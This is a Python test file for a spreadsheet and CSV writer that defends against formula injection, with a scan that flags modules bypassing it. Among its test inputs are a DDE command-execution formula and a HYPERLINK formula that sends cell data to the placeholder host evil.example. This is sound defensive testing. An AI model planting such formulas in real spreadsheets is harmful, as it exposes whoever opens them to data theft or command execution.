"""The one safe writer (core/cells.py): what ``safe_cell`` makes of each kind of value, xlsx files (normal
and write-only) and csv read back by real readers, and the scan that keeps every other module off
openpyxl's writers and ``csv.writer``."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from gongzhi.core.cells import MAX_CELL_CHARS, SafeCsvWriter, new_workbook, safe_cell
from gongzhi.testing.hostile_cells import FORMULAS, HOSTILE, MIXED, MIXED_WRITTEN, assert_written_safely

ROOT = Path(__file__).resolve().parents[3]
GONGZHI = ROOT / "gongzhi"
THE_WRITER = GONGZHI / "core" / "cells.py"
# Test harnesses build hostile input files on purpose (a formula, a zip bomb), as the tests do.
HARNESSES = {"testing", "faults"}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),  # full-width, as a Chinese input method types it
        ("-3", "'-3"),  # text that looks like a number stays text, and safe
        ("+86 139 1234 5678", "'+86 139 1234 5678"),
        ("路灯\x0b不亮", "路灯不亮"),
        ("a\x00b\x1bc\x7f", "abc\x7f"),  # C0 controls go; DEL is legal XML and stays
        ("\x0b=1+1", "'=1+1"),  # removed first, then judged: still a formula start
        ("第一行\n第二行\t完", "第一行\n第二行\t完"),  # newline and tab inside text are kept
        ("\ud800孤\ufffe\uffff", "孤"),
        ("#N/A", "#N/A"),  # stays text (the xlsx writer stores it as a string, see below)
        ("", ""),
        ("139****5678", "139****5678"),
    ],
)
def test_safe_cell_makes_text_safe(value, written):
    assert safe_cell(value) == written


def test_safe_cell_passes_numbers_dates_and_none_unchanged():
    day = dt.date(2026, 11, 20)
    naive = dt.datetime(2026, 11, 20, 9, 30)
    for value in (-3, 0, 7, -2.5, Decimal("-1.25"), True, False, day, naive, dt.time(9, 30), None):
        assert safe_cell(value) == value and type(safe_cell(value)) is type(value)
    aware = dt.datetime(2026, 11, 20, 1, 30, tzinfo=dt.UTC)
    assert safe_cell(aware) == dt.datetime(2026, 11, 20, 9, 30)  # Asia/Shanghai, Excel has no zones
    assert safe_cell(float("nan")) is None and safe_cell(Decimal("Infinity")) is None
    assert safe_cell("x" * (MAX_CELL_CHARS + 10)) == "x" * MAX_CELL_CHARS
    assert safe_cell("=" * MAX_CELL_CHARS) == "'" + "=" * (MAX_CELL_CHARS - 1)


def test_safe_cell_writes_other_objects_as_safe_text():
    class Label:
        def __str__(self) -> str:
            return "=cmd|'/c calc'!A1"

    assert safe_cell(Label()) == "'=cmd|'/c calc'!A1"


def _hostile_rows() -> list[list[object]]:
    return [[text, -1, 2.5, dt.date(2026, 1, 2), None, "#N/A"] for text in [*HOSTILE, MIXED]]


@pytest.mark.parametrize("write_only", [True, False])
def test_a_workbook_holds_text_never_a_formula(write_only):
    wb = new_workbook(write_only=write_only)
    ws = wb.create_sheet("数据")
    for row in _hostile_rows():
        ws.append(row)
    if not write_only:
        ws.cell(row=20, column=1, value='=HYPERLINK("http://evil.example/")')
        ws.cell(row=21, column=1, value="#REF!")
    content = wb.to_bytes()
    back = assert_written_safely(content, *HOSTILE, MIXED)
    ws_read = load_workbook(io.BytesIO(content))["数据"]
    assert ws_read["A1"].value == HOSTILE['=HYPERLINK("http://evil.example/?d="&R2,"点击查看")']
    # Numbers stay numbers (a negative one too), dates dates, an error code's text text.
    assert ws_read["B1"].value == -1 and ws_read["B1"].data_type == "n"
    assert ws_read["C1"].value == 2.5
    assert ws_read["D1"].value == dt.datetime(2026, 1, 2)
    assert ws_read["F1"].value == "#N/A" and ws_read["F1"].data_type == "s"
    if not write_only:
        assert ws_read["A20"].value == '\'=HYPERLINK("http://evil.example/")'
        assert ws_read["A21"].value == "#REF!" and ws_read["A21"].data_type == "s"
    assert MIXED_WRITTEN in back.texts()


def test_a_csv_holds_text_never_a_formula():
    buf = io.StringIO(newline="")
    writer = SafeCsvWriter(buf)
    writer.writerow(["列", "数"])
    writer.writerows(_hostile_rows())
    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    firsts = [row[0] for row in rows[1:]]
    assert firsts == [*HOSTILE.values(), MIXED_WRITTEN]
    assert rows[1][1:] == ["-1", "2.5", "2026-01-02", "", "#N/A"]
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "@")) and "\x00" not in value


# --- nobody writes around it ------------------------------------------------------------------------

WRITER_NAMES = {"Workbook", "Cell", "WriteOnlyCell", "MergedCell"}


def bypasses(source: str) -> list[tuple[int, str]]:
    """Where a module writes a spreadsheet or csv around core/cells.py: (line, what)."""
    tree = ast.parse(source)
    found: list[tuple[int, str]] = []
    uses_openpyxl = False
    csv_writers: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module:
            if node.module.split(".")[0] == "openpyxl":
                uses_openpyxl = True
                for alias in node.names:
                    if alias.name in WRITER_NAMES:
                        found.append((node.lineno, f"imports openpyxl's {alias.name}"))
            if node.module == "csv":
                for alias in node.names:
                    if alias.name in {"writer", "DictWriter"}:
                        csv_writers.add(alias.asname or alias.name)
                        found.append((node.lineno, f"imports csv.{alias.name}"))
        elif isinstance(node, ast.Import) and any(a.name.split(".")[0] == "openpyxl" for a in node.names):
            uses_openpyxl = True
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute):
            chain = _dotted(node)
            if chain.startswith("openpyxl.") and node.attr in WRITER_NAMES:
                found.append((node.lineno, f"uses {chain}"))
            if chain in {"csv.writer", "csv.DictWriter"}:
                found.append((node.lineno, f"uses {chain}"))
        elif isinstance(node, ast.Call):
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            if name == "partial" and node.args:  # partial(load_workbook, read_only=True, …)
                first = node.args[0]
                name = first.attr if isinstance(first, ast.Attribute) else getattr(first, "id", "")
            if name == "load_workbook" and not any(
                k.arg == "read_only" and isinstance(k.value, ast.Constant) and k.value.value is True
                for k in node.keywords
            ):
                found.append(
                    (node.lineno, "opens a workbook for writing (load_workbook without read_only=True)")
                )
            if (
                isinstance(func, ast.Attribute)
                and func.attr in {"append", "cell"}
                and isinstance(func.value, ast.Attribute)
                and func.value.attr == "raw"
            ):
                found.append((node.lineno, f"writes to a SafeSheet's raw sheet (.raw.{func.attr})"))
        elif isinstance(node, ast.Assign | ast.AugAssign | ast.AnnAssign) and uses_openpyxl:
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for target in targets:
                if isinstance(target, ast.Attribute) and target.attr == "value":
                    found.append((node.lineno, "assigns a cell's .value"))
    return sorted(found)


def _dotted(node: ast.AST) -> str:
    parts: list[str] = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if isinstance(node, ast.Name):
        parts.append(node.id)
    return ".".join(reversed(parts))


def _code_files() -> list[Path]:
    out = []
    for path in sorted([*GONGZHI.rglob("*.py"), *(ROOT / "config").rglob("*.py")]):
        parts = path.relative_to(ROOT).parts
        if "tests" in parts or "migrations" in parts or path.name == "conftest.py" or path == THE_WRITER:
            continue
        if parts[0] == "gongzhi" and parts[1] in HARNESSES:
            continue
        out.append(path)
    return out


def test_no_module_writes_a_spreadsheet_or_csv_around_the_safe_writer():
    problems = [
        f"{path.relative_to(ROOT)}:{line}: {what}"
        for path in _code_files()
        for line, what in bypasses(path.read_text(encoding="utf-8"))
    ]
    assert not problems, (
        "Write xlsx and csv through gongzhi/core/cells.py (new_workbook, SafeSheet.append / .cell, "
        "SafeCsvWriter), so every cell goes through safe_cell:\n" + "\n".join(problems)
    )
    assert len(_code_files()) > 100  # the scan reads the code, not an empty list


@pytest.mark.parametrize(
    "source",
    [
        "from openpyxl import Workbook\nwb = Workbook()",
        "import openpyxl\nwb = openpyxl.Workbook(write_only=True)",
        "from openpyxl.cell.cell import WriteOnlyCell",
        "import csv\nw = csv.writer(buf)",
        "from csv import DictWriter",
        "from openpyxl import load_workbook\nwb = load_workbook(f)",
        "from openpyxl import load_workbook\nwb = load_workbook(f, read_only=False)",
        "from functools import partial\nopen_it = partial(load_workbook, data_only=True)",
        "from openpyxl.styles import Font\nws['A1'].value = text",
        "ws.raw.append(row)",
        "sheet.raw.cell(row=1, column=1, value=v)",
    ],
)
def test_the_scan_finds_each_way_around(source):
    assert bypasses(source)


def test_the_scan_lets_reading_and_styling_pass():
    source = (
        "from openpyxl import load_workbook\nfrom openpyxl.styles import Font\n"
        "wb = load_workbook(f, read_only=True, data_only=True)\n"
        "opener = partial(load_workbook, read_only=True)\n"
        "ws.cell(row=1, column=1).font = Font(bold=True)\nrows.append(x)\nimport csv\nr = csv.reader(f)\n"
    )
    assert bypasses(source) == []
    assert FORMULAS  # the hostile texts the writers' tests feed are the ones checked here
